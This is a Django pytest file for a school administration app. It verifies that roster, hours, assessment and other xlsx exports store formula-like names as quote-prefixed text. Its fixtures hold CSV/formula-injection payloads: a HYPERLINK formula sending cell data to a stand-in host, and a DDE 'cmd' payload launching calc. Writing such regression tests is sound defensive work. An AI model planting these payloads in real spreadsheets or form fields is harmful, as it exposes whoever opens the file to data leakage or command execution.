"""Issue 8 point 7: a name a spreadsheet would run as a formula stays text in
every .xlsx export (the one writer, accounts.exports)."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.exports import FORMULA_STARTS, xlsx_bytes
from accounts.models import School, User
from groups.models import GroupMember, ResearchGroup

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x.example/?"&B2,"点这里")'


def assert_no_formula(content: bytes, expected: str = EVIL) -> None:
    """No sheet has a formula element, and the text shows as typed, quote-prefixed."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>]", z.read(name)), name
    found = []
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == expected:
                    assert cell.data_type == "s" and cell.quotePrefix
                    found.append(cell)
    assert found, "the name is in the export, as text"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_writer_keeps_each_dangerous_start_as_text(start):
    assert_no_formula(xlsx_bytes("t", ["名"], [[f"{start}1+1"]]), f"{start}1+1")


@pytest.fixture
def evil(cast):
    User.objects.filter(pk=cast.teacher2.pk).update(real_name=EVIL)
    cast.teacher2.refresh_from_db()
    group = ResearchGroup.objects.create(school=cast.school, name=EVIL, leader=cast.teacher2)
    GroupMember.objects.create(group=group, user=cast.teacher2)
    GroupMember.objects.create(group=group, user=cast.teacher)
    School.objects.filter(pk=cast.school.pk).update(name=EVIL)
    return group


def test_roster_export(cast, as_user, evil):
    response = as_user(cast.school_admin).get(reverse("accounts:roster"), {"export": "xlsx"})
    assert_no_formula(response.content)


@pytest.mark.parametrize("kind", ["schools", "teachers"])
def test_district_exports(cast, as_user, evil, kind, django_capture_on_commit_callbacks):
    from assessment.models import DistrictExport

    client = as_user(cast.district_admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("assessment:district_export_start"), {"kind": kind})
    export = DistrictExport.objects.get(kind=kind)
    response = client.get(reverse("assessment:district_export_file", args=[export.key]))
    assert_no_formula(b"".join(response.streaming_content))


def test_group_list_export(cast, as_user, evil):
    response = as_user(cast.school_admin).get(reverse("groups:list"), {"export": "xlsx"})
    assert_no_formula(response.content)


def test_school_hours_export(cast, as_user, evil):
    response = as_user(cast.school_admin).get(reverse("hours:school"), {"export": "xlsx"})
    assert_no_formula(response.content)


def test_group_hours_export(cast, as_user, evil):
    response = as_user(cast.teacher2).get(reverse("hours:group"), {"export": "xlsx"})
    assert_no_formula(response.content)


def test_new_teachers_password_slip(cast, as_user):
    import base64

    from openpyxl import Workbook

    from accounts.demo_ids import make_id_number

    wb = Workbook()
    wb.active.append(["姓名", "手机号", "身份证号"])
    wb.active.append([EVIL, "13712340001", make_id_number(9001)])
    wb.active["A2"].data_type = "s"  # typed as text, as a person would get it into a roster
    buf = io.BytesIO()
    wb.save(buf)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = as_user(cast.school_admin).post(
        reverse("accounts:roster_import"), {"file": SimpleUploadedFile("r.xlsx", buf.getvalue())}
    )
    slip = response.context["slip"]
    assert_no_formula(base64.b64decode(slip.split(",", 1)[1]))


def test_checkin_sheet_export(cast, as_user, evil):
    """Issue 14: the 签到表 names the school, the group and the people as text."""
    from django.utils import timezone

    from activities import services
    from activities.models import CheckIn

    from . import factories_activities as fa

    s = fa.group_setup(cast, group_name="组")
    a = fa.activity(s, "offline", held_on=timezone.localdate(), hours=2, title=EVIL)
    services.checkin_open(activity=a, by=s.leader)
    CheckIn.objects.create(
        activity=a, user=cast.teacher2, method="manual", by=s.leader, reason=EVIL
    )
    response = as_user(s.leader).get(reverse("activities:checkin_sheet_xlsx", args=[a.pk]))
    assert_no_formula(response.content)


def test_observation_export_with_moment_comments(cast, as_user, evil):
    """Issue 14: the responses and the comments pinned to moments of the video."""
    from activities import services
    from activities.models import VideoComment

    from . import factories_activities as fa

    s = fa.group_setup(cast, group_name="组")
    a = fa.activity(s, "observation")
    services.participation_join(activity=a, user=cast.teacher2)  # 王老师 is named EVIL
    services.observation_submit(activity=a, user=cast.teacher2, raw_answers=fa.answers_for(a))
    VideoComment.objects.create(activity=a, author=cast.teacher, second=75, body=EVIL)
    response = as_user(s.leader).get(reverse("activities:observation_export", args=[a.pk]))
    assert_no_formula(response.content)


# ---- the assessment exports, and the roster template (audit, issue 8 §7) ---------
# Each dangerous start in turn, in a teacher's name and their group's name,
# downloaded through the real URL by the role that downloads it.


def assert_every_cell_neutral(content: bytes) -> None:
    """No formula anywhere, and every text that starts like one is quote-prefixed."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>]", z.read(name)), name
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


@pytest.fixture(params=FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def hostile(request, cast):
    """王老师 (cast.teacher2) and a group of theirs named with one dangerous start."""
    name = f"{request.param}SUM(1,2)*cmd|' /C calc'!A0"
    User.objects.filter(pk=cast.teacher2.pk).update(real_name=name)
    cast.teacher2.refresh_from_db()
    group = ResearchGroup.objects.create(school=cast.school, name=name, leader=cast.teacher2)
    GroupMember.objects.create(group=group, user=cast.teacher2)
    return name


@pytest.fixture
def chose(cast, hostile):
    """王老师 chose three points and handed one evaluation in (the register's rows)."""
    from . import factories_assessment as fm

    keys = fm.mats_setup(cast).keys
    fm.choose(cast, cast.teacher2, keys[:3])
    fm.submit_evaluation(cast, cast.teacher2, keys[0])
    return hostile


def test_review_export(cast, as_user, hostile):
    response = as_user(cast.school_admin).get(reverse("assessment:review"), {"export": "xlsx"})
    assert_no_formula(response.content, hostile)


def test_register_export(cast, as_user, chose):
    response = as_user(cast.info_team).get(reverse("assessment:register"), {"export": "xlsx"})
    assert_no_formula(response.content, chose)


def test_lacking_export(cast, as_user, hostile):
    response = as_user(cast.school_admin).get(reverse("assessment:lacking"), {"export": "xlsx"})
    assert_no_formula(response.content, hostile)


@pytest.mark.parametrize("view", ["evidence_review", "evidence_register"])
def test_acceptance_copies_for_the_district(cast, as_user, chose, view):
    url = reverse(f"assessment:{view}", args=[cast.school.pk])
    response = as_user(cast.district_admin).get(url)
    assert response.status_code == 200
    assert_no_formula(response.content, chose)


def test_acceptance_copy_for_the_assigned_expert(cast, as_user, chose):
    from assessment.models import Acceptance
    from assessment.services.acceptance import experts_assign

    from . import factories_acceptance as fx

    fx.scheme(cast)
    fx.materials(cast)
    Acceptance.objects.filter(school=cast.school).update(status=Acceptance.Status.SUBMITTED)
    experts_assign(
        schools=[cast.school],
        experts=[cast.expert],
        cycle=cast.cycle,
        region_id=cast.district.pk,
        by=cast.district_admin,
    )
    url = reverse("assessment:evidence_review", args=[cast.school.pk])
    assert_no_formula(as_user(cast.expert).get(url).content, chose)


def test_roster_template(cast, as_user):
    """The template holds no one's data; its header and notes are still written
    through the one writer, nothing in it runs."""
    response = as_user(cast.school_admin).get(reverse("accounts:roster_template"))
    assert response.status_code == 200
    assert_every_cell_neutral(response.content)
